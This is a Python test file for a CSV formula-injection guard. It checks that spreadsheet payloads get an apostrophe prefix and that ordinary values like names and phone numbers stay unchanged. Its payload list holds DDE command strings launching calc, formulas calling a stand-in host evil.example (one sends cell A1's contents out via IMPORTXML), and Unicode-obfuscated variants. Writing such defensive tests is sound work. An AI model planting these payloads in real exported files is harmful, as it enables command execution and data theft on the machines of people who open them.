"""No cell of a .csv file is taken for a formula."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tenants.values.guard import FORMULA, guarded, unguarded

HIDDEN = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u202e", "\u2066", "\u00a0", "\u3000", "\u2028", "\x00", "\x1f", " ")
PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "=IMPORTXML(CONCAT('http://evil.example/?v=',A1),'//a')",
    "=WEBSERVICE('http://evil.example')",
    "+1+cmd|'/c calc'!A0",
    "+SUM(1)",
    "-2+3+cmd|'/c calc'!A0",
    "-SUM(1)",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tx",
    "\rx",
    "|calc",
    "%0a=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1-1",
    "﹫A1",
    "−1+1",
    "⁼1",
    "--1",
    "+-1",
    "==1",
    "=",
    "-",
    *(f"{hidden}=1+1" for hidden in HIDDEN),
    "\u200b\ufeff \u3000＝1+1",
    "\u0301=1+1",
    "\ufe0f=1+1",
    "\u3164=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_an_apostrophe(payload: str) -> None:
    assert guarded(payload) == f"'{payload}"


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize(
    "text", ["", "王芳", "a=b", "1+1", "13800138000", "+8613800138000", "-5", "-12.50", "0", "'=1", "(1)", " 1", "·", "😀", "￥5", "A@b.example"]
)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.text(min_size=1))
def test_what_is_left_alone_starts_no_formula(text: str) -> None:
    if guarded(text) == text and not text.lstrip("+-").replace(".", "", 1).isdigit():
        assert text.strip("\ufeff\u200b \t\r\n\u00a0\u3000")[:1] not in FORMULA


@pytest.mark.parametrize("payload", [*PAYLOADS, "王芳", "-5", "+8613800138000", "", "'", "'quoted'"])
def test_what_was_guarded_comes_back(payload: str) -> None:
    assert unguarded(guarded(payload)) == payload
